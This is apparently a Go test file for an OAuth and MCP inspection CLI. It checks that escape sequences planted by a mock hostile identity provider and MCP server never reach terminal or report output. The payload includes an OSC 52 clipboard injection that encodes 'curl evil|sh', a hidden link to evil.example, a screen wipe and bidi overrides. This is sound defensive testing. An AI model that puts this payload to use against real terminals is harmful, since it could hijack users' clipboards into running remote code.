package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	jose "github.com/go-jose/go-jose/v4"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/xaatools/xaa/inspect"
	"github.com/xaatools/xaa/inspect/inspecttest"
)

// payload joins what a hostile party would plant in a string: OSC 52 (set
// the clipboard to "curl evil|sh"), OSC 8 (a hidden link), OSC 0 (retitle
// the window), CSI 2J (wipe the screen), a colour-and-blink SGR, the
// one-byte CSI U+009B, BEL, a bare CR and bidirectional overrides.
const payload = "P\x1b]52;c;Y3VybCBldmlsfHNo\x07A\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\Y\x1b]0;pwned\x07L\x1b[2JO\x1b[5;31mA\u009b2JD\x07!\rX\u202eY\u2066Z"

// forbidden are the bytes and sequences of the payload that must never
// reach an output. Plain output must hold no escape at all.
var forbidden = []string{"\x1b]", "\x1b[2J", "\x1b[5;31m", "\u009b", "\a", "\r", "\u202e", "\u2066"}

// assertSafe fails when out carries any part of the payload raw, and also
// when the payload never reached out (made visible): a test that cannot
// fail proves nothing.
func assertSafe(t *testing.T, name, out string, plain bool) {
	t.Helper()
	for _, f := range forbidden {
		if strings.Contains(out, f) {
			t.Errorf("%s: the output carries %q from a hostile party", name, f)
		}
	}
	if plain && strings.ContainsRune(out, 0x1b) {
		t.Errorf("%s: plain output carries an escape byte", name)
	}
	if !strings.Contains(out, `\x1b]52;c;`) {
		t.Errorf("%s: the payload never reached the output (made visible as \\x1b]52…): the test proves nothing:\n%s", name, out)
	}
}

// hostile is a party that says the payload wherever it can: an IdP (its
// metadata, keys, tokens and answers), a resource AS that refuses with it,
// a REST API and an MCP server that speak it.
type hostile struct {
	url    string
	key    *inspecttest.Key
	config string
}

func startHostile(t *testing.T) *hostile {
	t.Helper()
	h := &hostile{key: inspecttest.Generate(t, jose.ES256, "k1")}
	mux := http.NewServeMux()
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	h.url = srv.URL
	js := func(w http.ResponseWriter, status int, v any) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		json.NewEncoder(w).Encode(v)
	}
	mux.HandleFunc("/.well-known/openid-configuration", func(w http.ResponseWriter, r *http.Request) {
		js(w, 200, map[string]any{"issuer": h.url, "authorization_endpoint": h.url + "/authorize", "token_endpoint": h.url + "/token",
			"jwks_uri": h.url + "/jwks", "grant_types_supported": []string{payload}, "code_challenge_methods_supported": []string{payload},
			"identity_chaining_requested_token_types_supported": []string{payload}, "token_endpoint_auth_methods_supported": []string{payload}})
	})
	mux.HandleFunc("/.well-known/oauth-authorization-server/as", func(w http.ResponseWriter, r *http.Request) {
		js(w, 200, map[string]any{"issuer": h.url + "/as", "token_endpoint": h.url + "/as/token", "jwks_uri": h.url + "/jwks",
			"grant_types_supported": []string{payload}, "authorization_grant_profiles_supported": []string{payload}})
	})
	mux.HandleFunc("/jwks", func(w http.ResponseWriter, r *http.Request) {
		var set struct{ Keys []any }
		json.Unmarshal(inspecttest.JWKS(t, h.key), &set)
		set.Keys = append(set.Keys, map[string]string{"kty": "RSA", "kid": payload, "alg": payload, "use": payload, "n": "x", "e": "AQAB"})
		js(w, 200, map[string]any{"keys": set.Keys})
	})
	mux.HandleFunc("/token", func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		if r.Form.Get("grant_type") != inspect.GrantTypeTokenExchange {
			js(w, 400, map[string]string{"error": "invalid_grant", "error_description": payload, "error_uri": "https://idp.example/" + payload})
			return
		}
		js(w, 200, map[string]any{"access_token": h.mint(t, inspect.TypIDJAG, h.url+"/as"), "issued_token_type": inspect.TokenTypeIDJAG,
			"token_type": payload, "expires_in": 300, "note": payload})
	})
	mux.HandleFunc("/as/token", func(w http.ResponseWriter, r *http.Request) {
		js(w, 400, map[string]string{"error": "invalid_grant", "error_description": payload, "error_uri": "https://as.example/" + payload})
	})
	mux.HandleFunc("/api", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("WWW-Authenticate", `Bearer error="invalid_token", error_description="`+strings.ReplaceAll(payload, `"`, "")+`"`)
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(401)
		fmt.Fprintf(w, "<html><body><h1>%s</h1></body></html>", payload)
	})
	mux.HandleFunc("/.well-known/oauth-protected-resource/", func(w http.ResponseWriter, r *http.Request) {
		js(w, 200, map[string]any{"resource": h.url + strings.TrimPrefix(r.URL.Path, "/.well-known/oauth-protected-resource"),
			"authorization_servers": []string{payload}, "resource_name": payload, "scopes_supported": []string{payload}})
	})
	server := mcp.NewServer(&mcp.Implementation{Name: payload, Version: payload}, nil)
	mcp.AddTool(server, &mcp.Tool{Name: "echo", Description: payload},
		func(context.Context, *mcp.CallToolRequest, struct{}) (*mcp.CallToolResult, any, error) {
			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: payload}}}, nil, nil
		})
	mux.Handle("/mcp", mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return server }, &mcp.StreamableHTTPOptions{Stateless: true}))

	h.config = writeFile(t, "xaa.yaml", fmt.Sprintf(`idp:
  issuer: %[1]s
  client_id: agent
  client_secret: idp-secret
  redirect_uri: http://127.0.0.1:%[2]d/callback
resource_as:
  issuer: %[1]s/as
  client_id: agent-at-as
  client_secret: as-secret
resource:
  api_url: %[1]s/api
  mcp_url: %[1]s/mcp
`, h.url, 20000+time.Now().Nanosecond()%10000))
	return h
}

// mint signs a token whose every string claim is hostile but aud.
func (h *hostile) mint(t *testing.T, typ, aud string) string {
	now := time.Now()
	return h.key.Mint(t, typ, inspecttest.Claims("iss", h.url, "sub", payload, "aud", aud, "client_id", payload, "jti", payload,
		"scope", payload, "email", payload, "nonce", payload, "iat", now.Unix(), "exp", now.Add(5*time.Minute).Unix()), map[string]any{"x-note": payload})
}

// TestHostileTextNeverReachesTheTerminal feeds the payload through every
// source (token header and claims, JWKS members, metadata lists, token
// response fields, OAuth errors, HTML error bodies, WWW-Authenticate, MCP
// server name, tool descriptions and results, a pasted JSON response) into
// every output of the commands (decode, run's report and Markdown, doctor,
// conform and its progress), plain and in colour.
func TestHostileTextNeverReachesTheTerminal(t *testing.T) {
	h := startHostile(t)
	idToken := h.mint(t, "JWT", "agent")
	accessToken := h.mint(t, inspect.TypAccessToken, h.url+"/mcp")
	jwks := writeFile(t, "keys.json", `{"keys":[{"kty":"EC","kid":`+mustJSON(payload)+`,"crv":"P-256","x":"bad","y":"bad"}]}`)
	pasted := `{"access_token":"` + h.mint(t, inspect.TypIDJAG, h.url+"/as") + `","token_type":` + mustJSON(payload) + `,"extra":` + mustJSON(payload) + `}`
	report := filepath.Join(t.TempDir(), "run.md")

	cases := []struct {
		name  string
		stdin string
		args  []string
	}{
		{"decode", "", []string{"decode", h.mint(t, inspect.TypIDJAG, h.url+"/as"), "--jwks", h.url + "/jwks"}},
		{"decode pasted response", pasted, []string{"decode", "-", "--offline", "--jwks", jwks}},
		{"run from the token exchange", "", []string{"run", "--config", h.config, "--from", "token_exchange", "--token", idToken, "-v", "--report", report}},
		{"run from the resource", "", []string{"run", "--config", h.config, "--from", "resource", "--token", accessToken, "--tool", "echo", "-v"}},
		{"doctor", "", []string{"doctor", "--config", h.config, "--token", idToken, "-v"}},
		{"conform", "", []string{"conform", "--config", h.config, "--listen", "127.0.0.1:0", "--key-dir", t.TempDir(), "-v"}},
	}
	for _, c := range cases {
		for _, colour := range []bool{false, true} {
			env := map[string]string{}
			mode := "plain"
			if colour {
				env["TERMINAL"], mode = "1", "colour"
			}
			t.Run(c.name+" "+mode, func(t *testing.T) {
				r := runXAA(t, c.stdin, env, c.args...)
				if r.code == exitUsage {
					t.Fatalf("exit %d: %s", r.code, r.stderr)
				}
				assertSafe(t, "stdout", r.stdout, !colour)
				assertSafe(t, "stdout+stderr", r.stdout+r.stderr, !colour)
			})
		}
	}
	md, err := os.ReadFile(report)
	if err != nil {
		t.Fatal(err)
	}
	assertSafe(t, "the Markdown report", string(md), true)
}

func mustJSON(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}
